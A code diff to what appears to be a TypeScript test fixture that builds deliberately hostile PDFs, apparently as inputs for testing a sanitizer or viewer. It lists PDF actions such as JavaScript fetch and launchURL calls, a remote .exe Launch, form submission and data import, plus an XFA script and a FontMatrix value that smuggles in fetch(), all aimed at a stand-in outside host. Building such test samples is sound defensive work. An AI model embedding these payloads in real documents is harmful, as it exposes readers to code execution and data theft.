@@ -28,17 +28,47 @@ export const pdfWith = (lines: readonly string[]): Buffer =>
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
   ])
 
-/** It runs a script when it is opened, submits a form, and links to another site from the whole page. */
-export const hostilePdf = (line: string, elsewhere: string): Buffer =>
-  pdfOf([
-    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${elsewhere}/script", true\\); fetch\\("${elsewhere}/fetch"\\)) >> /AA << /WC << /S /SubmitForm /F (${elsewhere}/submit) >> >> >>`,
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] >>',
-    contentOf([line]),
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
-    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${elsewhere}/link) >> >>`,
-    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [10 10 90 40] /A << /S /JavaScript /JS (app.launchURL\\("${elsewhere}/button"\\)) >> >>`,
+/** What a part of a document may do when it is opened, seen, pointed at or clicked. */
+const hostileActions = (elsewhere: string): readonly string[] => [
+  `/S /URI /URI (${elsewhere}/link)`,
+  `/S /URI /URI (javascript:fetch\\('${elsewhere}/address'\\))`,
+  `/S /JavaScript /JS (app.launchURL\\("${elsewhere}/button"\\))`,
+  `/S /Launch /F (${elsewhere}/launch.exe) /NewWindow true`,
+  `/S /GoToR /F << /FS /URL /F (${elsewhere}/remote.pdf) >> /D [0 /Fit] /NewWindow true`,
+  `/S /SubmitForm /F << /FS /URL /F (${elsewhere}/submit) >> /Flags 4`,
+  `/S /ImportData /F << /FS /URL /F (${elsewhere}/import) >>`,
+  `/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${elsewhere}/clip) >> >> >>`,
+  `/S /Movie /Operation /Play /T (${elsewhere}/movie)`,
+  '/S /Named /N /Print',
+]
+
+/** Scripts at its opening, in its names, its form and its font, and an annotation for each action over the whole page. */
+export function hostilePdf(line: string, elsewhere: string): Buffer {
+  const script = (name: string): string =>
+    `<< /S /JavaScript /JS (app.launchURL\\("${elsewhere}/${name}", true\\); fetch\\("${elsewhere}/${name}"\\)) >>`
+  const annotations = hostileActions(elsewhere).flatMap((action) => [
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>`,
+    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [10 10 90 40] /A << ${action} >> /AA << /PO << ${action} >> /E << ${action} >> /D << ${action} >> >> >>`,
+    `<< /Type /Annot /Subtype /Screen /Rect [0 0 595 842] /A << ${action} >> /AA << /PV << ${action} >> >> >>`,
   ])
+  const files = ['FileAttachment', 'RichMedia', 'Movie', '3D'].map(
+    (kind) =>
+      `<< /Type /Annot /Subtype /${kind} /Rect [0 0 200 200] /FS << /FS /URL /F (${elsewhere}/${kind}) >> /Movie << /F (${elsewhere}/${kind}) >> >>`,
+  )
+  const first = 6
+  const numbers = [...annotations, ...files].map((_, index) => `${first + index} 0 R`)
+  return pdfOf([
+    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('opened')} /AA << /WC << /S /SubmitForm /F (${elsewhere}/closed) >> /DP ${script('printed')} >> ` +
+      `/Names << /JavaScript << /Names [(a) ${script('named')}] >> >> ` +
+      `/AcroForm << /Fields [${numbers.join(' ')}] /XFA (<xdp><event activity="initialize"><script>fetch\\("${elsewhere}/xfa"\\)</script></event></xdp>) /CO [${numbers[1]}] >> >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O ${script('page')} >> /Annots [${numbers.join(' ')}] >>`,
+    contentOf([line]),
+    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); fetch\\("${elsewhere}/font"\\); //)] >>`,
+    ...annotations,
+    ...files,
+  ])
+}
 
 interface ZippedFile {
   readonly name: string
